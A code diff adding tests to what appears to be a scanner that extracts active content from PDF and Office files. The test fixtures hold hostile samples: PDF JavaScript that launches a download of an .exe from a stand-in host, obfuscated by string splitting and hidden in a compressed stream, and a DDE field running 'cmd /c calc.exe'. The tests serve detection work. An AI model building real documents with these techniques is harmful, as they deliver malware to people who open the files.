@@ -90,6 +90,41 @@ describe('a page that Office opens', () => {
   })
 })
 
+describe('a script of a PDF', () => {
+  const script = "app['launch'+'URL']('http://files.example/a.exe')"
+  const said = "JavaScript app.launchURL('http://files.example/a.exe')"
+
+  it.each([
+    ['in its action', pdfOf(`<</S/JavaScript/JS(${script})>>`)],
+    [
+      'an object of its own',
+      pdfOf('<</S/JavaScript/JS 2 0 R>>', `<<>>stream\n${script}endstream`),
+    ],
+    [
+      'an object of its own, packed',
+      Buffer.concat([
+        Buffer.from(
+          '%PDF-1.7\n1 0 obj<</S/JavaScript/JS 2 0 R>>endobj\n2 0 obj<</Filter/FlateDecode>>stream\n',
+        ),
+        deflateSync(script),
+        Buffer.from('\nendstream endobj\n%%EOF\n'),
+      ]),
+    ],
+  ])('is told with what its pieces come to: %s', async (_, pdf) => {
+    const { items } = await itemsOf(Buffer.from(pdf))
+    expect(items).toEqual([
+      expect.objectContaining({ ItemText: said, RelationType: 'JavaScript' }),
+    ])
+  })
+
+  it('whose object is not there is told of', async () => {
+    const { items } = await itemsOf(
+      Buffer.from(pdfOf('<</S/JavaScript/JS 9 0 R>>')),
+    )
+    expect(items.map((i) => i.ItemText)).toEqual(['JavaScript'])
+  })
+})
+
 describe('a PDF that is something else as well', () => {
   const letter = docxOf(paragraph(field('DDE cmd "/c calc.exe"')))
   const archive = `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x\r\nContent-Location: file:///a.docx\r\nContent-Transfer-Encoding: base64\r\n\r\n${letter.toString('base64')}\r\n--x--\r\n`
